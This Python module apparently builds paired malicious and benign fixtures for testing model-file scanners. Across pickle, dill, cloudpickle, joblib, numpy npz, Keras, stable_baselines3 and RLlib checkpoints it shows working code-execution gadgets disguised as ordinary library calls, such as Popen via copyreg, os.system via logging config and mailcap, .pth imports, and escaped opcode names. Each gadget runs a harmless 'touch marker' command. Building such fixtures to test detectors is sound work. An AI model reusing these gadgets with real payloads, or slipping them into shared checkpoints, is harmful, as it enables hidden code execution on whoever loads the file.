"""Pickles: gadgets whose callable looks like plumbing, second files, and libraries that unpickle for you."""
from __future__ import annotations

import argparse
import collections
import io
import json
import operator
import pathlib
import pickle
import types
import uuid
import zlib

from assembly import build, call, glob, model, pickle as assemble, tup, val
from fourteenth.common import Part, plant, zipped

part = Part()
add = part.add
pair = part.pair
BODY = "open('marker','w').close()"
SHELL = "touch marker"


def state(extra):
    """An honest training state, written by pickle itself."""
    return pickle.dumps({"epoch": 3, "weights": [0.5, -1.25, 2.0, 0.125], "extra": extra, "name": "classifier"}, 4)


def main_class(source, name):
    space = {"__name__": "__main__"}
    exec(source, space)
    return space[name]


@pair("pickle", "xiv_pickle", "checkpoint.pkl")
def reconstructor_runs_init():
    """pickle.load: copyreg._reconstructor calls base.__init__(obj, state), here the constructor of Popen."""
    popen = glob("webbrowser", "subprocess.Popen")
    h = assemble(model(call(glob("copyreg", "_reconstructor"), popen, popen, ["touch", "marker"])))
    counts = call(glob("copyreg", "_reconstructor"), glob("collections", "Counter"), glob("builtins", "dict"), {"cat": 3, "dog": 2})
    return h, assemble(model(counts))


@pair("pickle", "xiv_pickle", "checkpoint.pkl")
def rpc_resolver():
    """pickle.load: xmlrpc.server.resolve_dotted_attribute is a getattr with a harmless name."""
    h = call(call(glob("xmlrpc.server", "resolve_dotted_attribute"), glob("fileinput", "os"), "system", True), SHELL)
    return assemble(model(h)), state(operator.attrgetter("encoder.layers"))


@pair("pickle", "xiv_pickle", "content_types.pkl")
def mailcap_test_field():
    """pickle.load on CPython up to 3.12: mailcap.findmatch gives the `test` field of an entry to the shell."""
    caps = {"image/png": [{"view": "display %s", "test": SHELL}]}
    h = call(glob("mailcap", "findmatch"), caps, "image/png")
    return assemble(model(h)), state({"image/png": [{"view": "display %s", "needs": "x11"}], "root": pathlib.PurePosixPath("images")})


@pair("pickle", "xiv_pickle", "run_ids.pkl")
def uuid_command():
    """pickle.load: uuid._get_command_stdout starts the program that it is given."""
    h = call(glob("uuid", "_get_command_stdout"), "touch", "marker")
    return assemble(model(h)), state(uuid.UUID("5f0cbe84-6e43-4a57-9a1e-7a3f1f1f7a10"))


@pair("pickle", "xiv_pickle", "hparams.pkl")
def annotations_evaluated():
    """pickle.load: typing.get_type_hints evaluates the string annotations of any object it gets."""
    space = build(call(glob("types", "SimpleNamespace")), {"__annotations__": {"lr": "float", "warmup": "[" + BODY + "]"}})
    h = call(glob("typing", "get_type_hints"), space)
    return assemble(model(h)), state(types.SimpleNamespace(__annotations__={"lr": "float", "warmup": "int"}, lr=1e-4, warmup=500))


@pair("pickle", "xiv_pickle", "trainer_state.pkl")
def logging_factory():
    """pickle.load: DictConfigurator.configure_custom resolves the `()` of a dict and calls it with the rest."""
    conf = call(glob("logging.config", "DictConfigurator"), {"version": 1})
    h = call(glob("logging.config", "DictConfigurator.configure_custom"), conf, {"()": "os.system", "command": SHELL})
    twin = {"version": 1, "handlers": {"console": {"class": "logging.StreamHandler", "level": "INFO"}}, "root": {"handlers": ["console"]}}
    return assemble(model(h)), state(twin)


@pair("pickle", "xiv_pickle", "loader_state.pkl")
def work_item():
    """pickle.load: a _WorkItem of concurrent.futures runs its function in the calling thread."""
    job = call(glob("concurrent.futures.thread", "_WorkItem"), call(glob("concurrent.futures", "Future")),
               glob("tempfile", "_os.system"), (SHELL,), {})
    h = call(glob("concurrent.futures.thread", "_WorkItem.run"), job)
    import functools

    import numpy

    return assemble(model(h)), state(functools.partial(numpy.clip, a_min=0.0, a_max=1.0))


@pair("pickle", "xiv_pickle", "loader_state.pkl")
def finalizer_waits():
    """pickle.load: weakref.finalize keeps the call until the object dies or the interpreter ends."""
    h = call(glob("weakref", "finalize"), call(glob("collections", "OrderedDict")), glob("distutils.spawn", "spawn"), ["touch", "marker"])
    return assemble(model(h)), state(collections.OrderedDict(shard=4, seed=11))


@pair("pickle", "xiv_pickle")
def vocabulary_as_module():
    """pickle.load: SourceFileLoader imports any file, here the vocabulary that lies beside the pickle."""
    loader = call(glob("importlib.machinery", "SourceFileLoader"), "vocab", "vocab.txt")
    h = call(glob("importlib.machinery", "SourceFileLoader.load_module"), loader)
    words = "\n".join(["pad", "cls", "sep", "mask", "the", "of", "and", "in", "model"]) + "\n"
    code = "# pad cls sep mask\nthe = of = 1\nimport os\nos.system('touch marker')\n"
    return (
        {"encoder.pkl": assemble(model(h)), "vocab.txt": code},
        {"encoder.pkl": state({"vocab": pathlib.PurePosixPath("vocab.txt")}), "vocab.txt": words},
    )


@pair("pickle", "xiv_pickle")
def site_directory():
    """pickle.load: site.addsitedir executes the import lines of every .pth beside the model."""
    h = call(glob("site", "addsitedir"), ".")
    return (
        {"model.pkl": assemble(model(h)), "tokenizer.pth": "# tokenizer 1.2\nimport os; os.system('touch marker')\n"},
        {"model.pkl": state({"root": pathlib.PurePosixPath(".")}), "tokenizer.pth": "# tokenizer 1.2\nsrc/tokenizer\n"},
    )


SCALER = """
class Scaler:
    def __init__(self, mean, scale):
        self.mean, self.scale = mean, scale
    def transform(self, rows):
        return [(x - self.mean) / self.scale for x in rows]
    def __getstate__(self):
        return {"mean": self.mean, "scale": self.scale}
    def __setstate__(self, state):
        self.__dict__.update(state)
        %s
"""


@pair("pickle", "xiv_pickle", "scaler.pkl")
def class_by_value():
    """cloudpickle.load or pickle.load: a class kept by value whose __setstate__ acts when its instance is restored."""
    import cloudpickle

    h = main_class(SCALER % "__import__('subprocess').call(['touch', 'marker'])", "Scaler")
    t = main_class(SCALER % "self.ready = True", "Scaler")
    return cloudpickle.dumps(h(0.5, 2.0)), cloudpickle.dumps(t(0.5, 2.0))


READER = """
class Reader:
    handle = None
    def __init__(self, path):
        self.path = path
    def rows(self):
        self.handle = self.handle or open(self.path)
        return self.handle.readlines()
    def __del__(self):
        %s
"""


@pair("pickle", "xiv_dill", "reader.dill")
def dill_destructor():
    """dill.load: a class kept by value whose __del__ acts when the object is thrown away."""
    import dill

    h = main_class(READER % "import os; os.system('touch marker')", "Reader")
    t = main_class(READER % "self.handle and self.handle.close()", "Reader")
    return dill.dumps(h("train.csv"), byref=False, recurse=True), dill.dumps(t("train.csv"), byref=False, recurse=True)


@pair("pickle", "xiv_pickle", "weights_v0.pkl")
def escaped_names():
    """pickle.load: STACK_GLOBAL takes names from STRING and UNICODE lines, whose escapes are undone first."""
    def data(module, name, args):
        head = b"\x80\x02}(X\x05\x00\x00\x00epochK\x03X\x05\x00\x00\x00extra"
        return head + b"S'" + module + b"'\nV" + name + b"\n\x93" + args + b"Ru."

    h = data(rb"p\x6fs\x69x", rb"\u0073y\u0073tem", b"(S'touc\\x68 marker'\nt")
    t = data(rb"c\x6fllections", rb"\u004frderedDict", b"(t")
    return h, t


@pair("pickle", "xiv_pickle", "weights_v1.pkl")
def memo_written_twice():
    """pickle.load: a memo slot that first holds `collections` is written again by the text opcode before its use."""
    def data(module, name, args):
        first = b"\x80\x04](" + bytes(val("collections")) + b"q\x07" + bytes(val("Counter")) + b"q\x08"
        second = bytes(val(module)) + b"p007\n" + bytes(val(name)) + b"r\x08\x00\x00\x00"
        return first + second + b"h\x07j\x08\x00\x00\x00\x93" + bytes(args) + b"Re."

    return data("pty", "os.popen", tup(SHELL)), data("decimal", "Decimal", tup("0.001"))


@pair("pickle", "xiv_pickle", "cache.pkl")
def compressed_inner_pickle():
    """pickle.load: a codec inflates bytes that the pickler of multiprocessing.connection then loads."""
    inner = pickle.dumps({"a": 1}, 2).replace(b"K\x01", bytes(call(glob("os", "system"), SHELL)))
    inner = b"\x80\x04" + inner[2:]
    h = call(glob("multiprocessing.connection", "_ForkingPickler.loads"), call(glob("_codecs", "decode"), zlib.compress(inner), "zlib_codec"))
    t = call(glob("_codecs", "encode"), "\x00\xff\x10weights", "latin1")
    return assemble(model(h)), assemble(model(t))


@pair("pickle", "xiv_pickle", "config.pkl")
def dataclass_factory():
    """pickle.load on CPython 3.7 to 3.12: dataclasses._create_fn compiles the defaults that it is given as text."""
    h = call(glob("dataclasses", "_create_fn"), "__init__", ["self", "lr=" + BODY], ["self.lr = lr"])
    return assemble(model(h)), state(argparse.Namespace(lr=1e-4, body=["self.lr = lr"]))


@pair("pickle", "xiv_vectorizer", "vectorizer.pkl")
def tokenizer_through_pager():
    """sklearn's CountVectorizer.transform calls its tokenizer: pydoc.pipepager hands the text to a command."""
    import functools
    import pydoc

    from sklearn.feature_extraction.text import CountVectorizer

    docs = ["a small model", "a large model"]

    def data(tokenizer):
        out = CountVectorizer(token_pattern=None, tokenizer=operator.methodcaller("split")).fit(docs)
        out.tokenizer = tokenizer
        return pickle.dumps(out, 4)

    return data(functools.partial(pydoc.pipepager, cmd=SHELL)), data(operator.methodcaller("split", " "))


@pair("pickle", "xiv_formulaic", "formula.pkl")
def formula_calls():
    """formulaic: ModelSpec.get_model_matrix evaluates the Python of the terms of a pickled formula."""
    import formulaic
    import pandas

    frame = pandas.DataFrame({"y": [1.0, 2.0, 4.0], "x": [0.5, 0.25, 1.5]})

    def data(term):
        return pickle.dumps(formulaic.model_matrix("y ~ " + term, frame).model_spec)

    return data("{x + __import__('os').system('touch marker')}"), data("{x ** 2 + 1}")


@pair("pickle", "xiv_keras_pickle", "model.pkl")
def keras_in_pickle():
    """pickle.load of a Keras model: the .keras archive inside is opened with safe_mode off, so its Lambda runs at the first prediction."""
    import keras

    def data(layer):
        return pickle.dumps(keras.Sequential([keras.Input((4,)), layer, keras.layers.Dense(2)]))

    hostile = keras.layers.Lambda(lambda x: (open("marker", "w").close(), x * 2.0)[1], output_shape=(4,))
    return data(hostile), data(keras.layers.Rescaling(2.0))


def zfile(data):
    packed = zlib.compress(data)
    return b"ZF" + hex(len(data)).encode().ljust(19) + packed


@pair("pickle", "xiv_joblib", "regressor.pkl")
def joblib_zfile():
    """joblib.load: the ZF files of joblib before 0.10 are still inflated and unpickled."""
    h = assemble(model(call(glob("collections", "deque"), call(glob("itertools", "starmap"), glob("imp", "os.system"), [(SHELL,)]))))
    return zfile(h), zfile(state(collections.deque([1, 2, 3], maxlen=8)))


@pair("pickle", "xiv_memory")
def joblib_memory_cache():
    """joblib.Memory: the output.pkl of a cached call is loaded in place of the call."""
    import joblib
    import numpy

    base = "joblib/features/embed/0d8b3c7f2a4e5f60718293a4b5c6d7e8/"
    gadget = call(glob("patsy.eval", "EvalEnvironment.eval"), call(glob("patsy", "EvalEnvironment"), [{}]), BODY)
    buffer = io.BytesIO()
    joblib.dump(numpy.arange(12.0).reshape(3, 4), buffer)
    common = {
        base + "metadata.json": '{"duration": 3.1, "input_args": {"split": "\'train\'"}, "time": 1767225600.0}',
        "joblib/features/embed/func_code.py": "# first line: 9\n@memory.cache\ndef embed(split):\n    return encoder(rows(split))\n",
    }
    return ({base + "output.pkl": assemble(val([1.0, gadget])), **common}, {base + "output.pkl": buffer.getvalue(), **common})


@pair("pickle", "xiv_npz", "stats.npz")
def npz_member_without_suffix():
    """numpy.load(allow_pickle=True): a member is read as an array by its magic, whatever its name ends in."""
    import numpy

    def npy(array):
        out = io.BytesIO()
        if array.dtype.hasobject:
            numpy.lib.format.write_array_header_2_0(out, numpy.lib.format.header_data_from_array_1_0(array))
            out.write(pickle.dumps(array, 2))
        else:
            numpy.lib.format.write_array(out, array, version=(2, 0))
        return out.getvalue()

    mark = numpy.empty(2, object)
    mark[:] = ["@@X@@", 1.0]
    gadget = call(glob("trace", "Trace.run"), call(glob("trace", "Trace")), BODY)
    h = npy(mark).replace(b"\x80\x02", b"\x80\x04")
    mean = npy(numpy.arange(4.0))
    return zipped({"mean": mean, "README": plant(h, gadget)}), zipped({"mean": mean, "README": npy(numpy.array(["mean", "of the train split"]))})


@pair("pickle", "xiv_sb3", "policy.zip")
def agent_schedule():
    """stable_baselines3 load: `data` of the zip is JSON whose `:serialized:` values go to cloudpickle."""
    import base64

    import cloudpickle

    def blob(value):
        return {":type:": "<class 'function'>", ":serialized:": base64.b64encode(value).decode()}

    def data(schedule):
        out = {"gamma": 0.99, "n_steps": 2048, "learning_rate": 0.0003, "lr_schedule": schedule, "num_timesteps": 100000}
        return zipped({"data": json.dumps(out, indent=4), "_stable_baselines3_version": "2.9.2", "system_info.txt": "- OS: Linux\n- Python: 3.11\n"})

    h = assemble(call(glob("bdb", "Bdb.run"), call(glob("bdb", "Bdb")), BODY))
    space = {"__name__": "__main__"}
    exec("def schedule(progress):\n    return 0.0003 * progress\n", space)
    return data(blob(h)), data(blob(cloudpickle.dumps(space["schedule"])))


@pair("pickle", "xiv_rllib")
def rllib_arguments():
    """ray.rllib Algorithm.from_checkpoint: class_and_ctor_args.pkl is unpickled before anything of the agent."""
    meta = '{"class_and_ctor_args_file": "class_and_ctor_args.pkl", "state_file": "state", "type": "Algorithm", "checkpoint_version": "2.1", "ray_version": "2.40.0"}'
    gadget = call(glob("cProfile", "Profile.runcall"), call(glob("cProfile", "Profile")), glob("glob", "os.system"), SHELL)
    h = assemble(val({"class": "PPO", "ctor_args_and_kwargs": ([], {"config": gadget})}))
    t = pickle.dumps({"class": "PPO", "ctor_args_and_kwargs": ([], {"config": {"lr": 5e-5, "env": "CartPole-v1"}})}, 4)
    return (
        {"class_and_ctor_args.pkl": h, "rllib_checkpoint.json": meta},
        {"class_and_ctor_args.pkl": t, "rllib_checkpoint.json": meta},
    )
